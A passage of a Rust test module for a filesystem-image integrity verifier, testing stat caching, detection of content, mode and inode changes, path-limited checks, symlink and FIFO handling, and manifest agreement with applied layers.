                    found: (0, 0)
                }
            );
        }
        // Without comparing owners (as when not root) nothing differs.
        let opts = Options {
            owners: false,
            ..eager(true)
        };
        let report = verify_tree_with(&f.root, &f.manifest, &mut cache, opts).unwrap();
        assert_eq!(report.changes, []);
    }

    #[test]
    fn the_stat_cache_skips_clean_files_and_still_catches_a_same_size_same_mtime_edit() {
        let f = fixture();
        // Let every ctime age past the racy-clean margin, then use the public API.
        std::thread::sleep(RACY_MARGIN + Duration::from_millis(100));
        let mut cache = StatCache::default();
        let files = FILES;
        let first = verify_tree(&f.root, &f.manifest, &mut cache, false).unwrap();
        assert_eq!((first.files_hashed, first.files_skipped), (files, 0));
        assert_eq!(cache.len(), files as usize);

        let quick = verify_tree(&f.root, &f.manifest, &mut cache, false).unwrap();
        assert_eq!(quick.changes, []);
        assert_eq!(
            (quick.files_hashed, quick.bytes_hashed, quick.files_skipped),
            (0, 0, files)
        );
        let full = verify_tree(&f.root, &f.manifest, &mut cache, true).unwrap();
        assert_eq!((full.files_hashed, full.files_skipped), (files, 0));

        // Same size, mtime put back: only ctime tells.
        let path = f.path("var/www/index.html");
        let mtime = fs::metadata(&path).unwrap().modified().unwrap();
        let mut file = OpenOptions::new().write(true).open(&path).unwrap();
        file.write_all(b"<h1>v6</h1>").unwrap();
        file.set_times(FileTimes::new().set_modified(mtime))
            .unwrap();
        drop(file);
        assert_eq!(fs::metadata(&path).unwrap().modified().unwrap(), mtime);
        assert_eq!(fs::metadata(&path).unwrap().len(), 11);
        let after = verify_tree(&f.root, &f.manifest, &mut cache, false).unwrap();
        assert_eq!(lines(&after.changes).len(), 1);
        assert!(
            matches!(&after.changes[0], Change::Content { path, .. } if path == "var/www/index.html")
        );
        assert_eq!((after.files_hashed, after.files_skipped), (1, files - 1));
        // A changed file is forgotten, so it is hashed (and reported) every time.
        assert_eq!(cache.len(), files as usize - 1);
        let again = verify_tree(&f.root, &f.manifest, &mut cache, false).unwrap();
        assert_eq!((again.files_hashed, again.changes.len()), (1, 1));

        // A cache is about one root and one image.
        let other = Manifest {
            image: Digest::of(b"other image"),
            ..f.manifest.clone()
        };
        let report = verify_tree(&f.root, &other, &mut cache, false).unwrap();
        assert_eq!(report.files_skipped, 0);
    }

    #[test]
    fn freshly_changed_files_are_hashed_but_not_cached() {
        let f = fixture();
        let mut cache = StatCache::default();
        // The tree was written just now: every ctime is within the racy-clean margin.
        verify_tree(&f.root, &f.manifest, &mut cache, false).unwrap();
        assert!(cache.is_empty());
        let again = verify_tree(&f.root, &f.manifest, &mut cache, false).unwrap();
        assert_eq!(again.files_skipped, 0);
        // Past the margin they are.
        verify_tree_with(&f.root, &f.manifest, &mut cache, eager(false)).unwrap();
        let quick = verify_tree_with(&f.root, &f.manifest, &mut cache, eager(false)).unwrap();
        assert_eq!((quick.files_hashed, quick.files_skipped), (0, FILES));
    }

    #[test]
    fn a_chmod_or_replacement_after_caching_is_still_caught() {
        let f = fixture();
        let mut cache = StatCache::default();
        verify_tree_with(&f.root, &f.manifest, &mut cache, eager(false)).unwrap();
        // chmod: metadata is compared on every scan, cached or not.
        fs::set_permissions(f.path("bin/busybox"), fs::Permissions::from_mode(0o4755)).unwrap();
        // Replaced by a new file of the same content and then edited: a new inode.
        let p = f.path("etc/passwd");
        fs::remove_file(&p).unwrap();
        fs::write(&p, "root:x:0:0::/root:/bin/ash\n").unwrap();
        fs::set_permissions(&p, fs::Permissions::from_mode(0o644)).unwrap();
        let report = verify_tree_with(&f.root, &f.manifest, &mut cache, eager(false)).unwrap();
        let lines = lines(&report.changes);
        assert_eq!(lines.len(), 3, "{lines:?}");
        // The hard link shares the inode (and so the mode) of busybox.
        assert_eq!(lines[0], "/bin/busybox: mode changed (4755 expected 0755)");
        assert_eq!(lines[1], "/bin/sh: mode changed (4755 expected 0755)");
        assert!(
            lines[2].starts_with("/etc/passwd: content changed"),
            "{lines:?}"
        );
        // chmod moved the ctime of busybox (and so of its hard link): both are read again.
        assert_eq!(report.files_hashed, 3);
    }

    #[test]
    fn verify_paths_checks_only_what_it_is_given() {
        let f = fixture();
        let mut cache = StatCache::default();
        fs::write(f.path("etc/passwd"), "changed").unwrap();
        fs::write(f.path("etc/not-asked"), "x").unwrap();
        fs::remove_dir_all(f.path("var/www")).unwrap();
        fs::create_dir_all(f.path("new/dir")).unwrap();
        // A path below a symlink does not exist, even if the link leads to it.
        fs::remove_dir_all(f.path("usr/share")).unwrap();
        symlink(f.path("var/cache"), f.path("usr/share")).unwrap();
        fs::create_dir(f.path("var/cache/zoneinfo")).unwrap();
        let paths: Vec<String> = [
            "/etc/passwd",
            "etc/localtime",
            "var/www",
            "var/www/index.html",
            "new",
            "new/dir",
            "./usr/share/zoneinfo",
            "not/there",
            "/",
        ]
        .map(str::to_owned)
        .into();
        let changes = verify_paths(&f.root, &f.manifest, &paths, &mut cache).unwrap();
        assert_eq!(
            lines(&changes)
                .iter()
                .map(|l| l.split(" (").next().unwrap())
                .collect::<Vec<_>>(),
            [
                "/etc/passwd: content changed",
                "/new: added",
                "/usr/share/zoneinfo: removed",
                "/var/www: removed",
            ]
        );
        let err = verify_paths(&f.root, &f.manifest, &["../x".into()], &mut cache).unwrap_err();
        assert!(matches!(err, Error::InvalidPath { .. }), "{err}");
    }

    #[test]
    fn verify_paths_of_every_path_agrees_with_verify_tree() {
        let f = fixture();
        fs::write(f.path("etc/passwd"), "changed").unwrap();
        fs::set_permissions(f.path("ro/tool"), fs::Permissions::from_mode(0o755)).unwrap();
        fs::remove_dir_all(f.path("var")).unwrap();
        fs::create_dir_all(f.path("new/dir")).unwrap();
        fs::remove_file(f.path("bin/sh")).unwrap();
        symlink("busybox", f.path("bin/sh")).unwrap();
        fs::remove_dir_all(f.path("usr/share")).unwrap();
        fs::write(f.path("usr/share"), "flat").unwrap();
        let mut paths: Vec<String> = f.manifest.entries.keys().cloned().collect();
        for e in WalkDir::new(&f.root).min_depth(1) {
            let e = e.unwrap();
            paths.push(
                e.path()
                    .strip_prefix(&f.root)
                    .unwrap()
                    .display()
                    .to_string(),
            );
        }
        let mut cache = StatCache::default();
        let some = verify_paths(&f.root, &f.manifest, &paths, &mut cache).unwrap();
        let all = f.verify().changes;
        assert_eq!(lines(&some), lines(&all));
        assert_eq!(all.len(), 6, "{:?}", lines(&all));
    }

    #[test]
    fn a_file_swapped_for_a_symlink_or_fifo_is_never_read_through() {
        let f = fixture();
        let nothing = Digest::of(b"");
        let job = |rel: &str| Job {
            key: "k",
            abs: f.path(rel),
            expected: &nothing,
            size: 0,
            walked: Stamp::of(&fs::metadata(f.path("big")).unwrap()),
        };
        symlink("/dev/zero", f.path("zero")).unwrap();
        assert!(matches!(
            hash_job(&job("zero")).unwrap(),
            Hashed::Kind(FileKind::Symlink)
        ));
        rustix::fs::mknodat(
            rustix::fs::CWD,
            f.path("fifo"),
            rustix::fs::FileType::Fifo,
            rustix::fs::Mode::from_raw_mode(0o644),
            0,
        )
        .unwrap();
        assert!(matches!(
            hash_job(&job("fifo")).unwrap(),
            Hashed::Kind(FileKind::Fifo)
        ));
        assert!(matches!(hash_job(&job("gone")).unwrap(), Hashed::Gone));
        // A regular file of another inode than walked is hashed but not cached.
        match hash_job(&job("empty")).unwrap() {
            Hashed::Digest(d, 0, None) => assert_eq!(d, Digest::of(b"")),
            _ => panic!("expected an uncacheable digest"),
        }
        let report = f.verify();
        assert_eq!(
            lines(&report.changes),
            ["/fifo: added (fifo)", "/zero: added (symlink)"]
        );
    }

    #[test]
    fn a_missing_root_is_an_error_and_changes_serialize_tagged() {
        let f = fixture();
        let err = verify_tree(
            &f.path("nope"),
            &f.manifest,
            &mut StatCache::default(),
            true,
        )
        .unwrap_err();
        assert!(err.to_string().starts_with("cannot verify "), "{err}");
        let change = Change::Mode {
            path: "etc/passwd".into(),
            expected: 0o644,
            found: 0o666,
        };
        let json = serde_json::to_string(&change).unwrap();
        assert_eq!(
            json,
            r#"{"change":"mode","path":"etc/passwd","expected":420,"found":438}"#
        );
        assert_eq!(serde_json::from_str::<Change>(&json).unwrap(), change);
        let added = serde_json::to_string(&Change::Added {
            path: "x".into(),
            kind: FileKind::Symlink,
        })
        .unwrap();
        assert_eq!(added, r#"{"change":"added","path":"x","kind":"symlink"}"#);
        let link = serde_json::to_value(Change::LinkTarget {
            path: "l".into(),
            expected: "a".into(),
            found: "b".into(),
        })
        .unwrap();
        assert_eq!(link["change"], "link_target");
    }

    mod props {
        use proptest::prelude::*;

        use super::*;

        const NAMES: [&str; 7] = ["a", "b", "a/b", "a/c", "b/a", "a/b/c", "c/d/e"];

        #[derive(Debug, Clone)]
        enum Op {
            Dir(usize, u32),
            File(usize, u32, u8),
            Link(usize, &'static str),
            Hard(usize, usize),
            Whiteout(usize),
            Opaque(usize),
        }

        fn op() -> impl Strategy<Value = Op> {
            let name = 0..NAMES.len();
            let mode = prop::sample::select(vec![0o755, 0o700, 0o750, 0o644, 0o4755]);
            prop_oneof![
                (name.clone(), mode.clone()).prop_map(|(n, m)| Op::Dir(n, m)),
                (name.clone(), mode, 0..3u8).prop_map(|(n, m, c)| Op::File(n, m, c)),
                (
                    name.clone(),
                    prop::sample::select(vec!["a", "../b", "/etc/x", "b/c", "."])
                )
                    .prop_map(|(n, t)| Op::Link(n, t)),
                (name.clone(), name.clone()).prop_map(|(n, t)| Op::Hard(n, t)),
                name.prop_map(Op::Whiteout),
                (0..3usize).prop_map(Op::Opaque),
            ]
        }

        const CONTENT: [&[u8]; 3] = [b"", b"one", b"two two"];
        const DIRS: [&str; 3] = ["", "a", "a/b"];

        fn member(op: &Op) -> M<'static> {
            match *op {
                Op::Dir(n, m) => M::Dir(NAMES[n], m),
                Op::File(n, m, c) => M::File(NAMES[n], m, CONTENT[usize::from(c)]),
                Op::Link(n, t) => M::Link(NAMES[n], t),
                Op::Hard(n, t) => M::Hard(NAMES[n], NAMES[t]),
                Op::Whiteout(n) => M::Whiteout(NAMES[n]),
                Op::Opaque(d) => M::Opaque(DIRS[d]),
            }
        }

        proptest! {
            #![proptest_config(ProptestConfig::with_cases(256))]

            /// Whatever the layers hold, the manifest is exactly the tree `apply_layers` makes
            /// (or both refuse the layers).
            #[test]
            fn the_manifest_is_what_apply_layers_makes(
                layers in prop::collection::vec(prop::collection::vec(op(), 1..7), 1..4)
            ) {
                let dir = tempfile::tempdir().unwrap();
                let store = Store::open(&dir.path().join("store")).unwrap();
                let records: Vec<LayerRecord> = layers
                    .iter()
                    .map(|ops| {
                        let members: Vec<M<'_>> = ops.iter().map(member).collect();
                        layer(&store, Compression::None, &members)
                    })
                    .collect();
                let root = dir.path().join("root");
                fs::create_dir(&root).unwrap();
                let applied = apply_layers(&store, &records, &root);
                let manifest = Manifest::from_layers(&store, &Digest::of(b"i"), &records);
                match (applied, manifest) {
                    (Ok(()), Ok(m)) => {
                        let report = verify_tree_with(
                            &root, &m, &mut StatCache::default(), eager(true),
                        ).unwrap();
                        prop_assert_eq!(lines(&report.changes), Vec::<String>::new());
                        prop_assert_eq!(report.entries, m.entries.len() as u64);
                    }
                    (Err(_), Err(_)) => {}
                    (a, m) => prop_assert!(false, "apply_layers: {:?}, manifest: {:?}", a, m.map(|m| m.entries)),
                }
            }
        }
    }
}
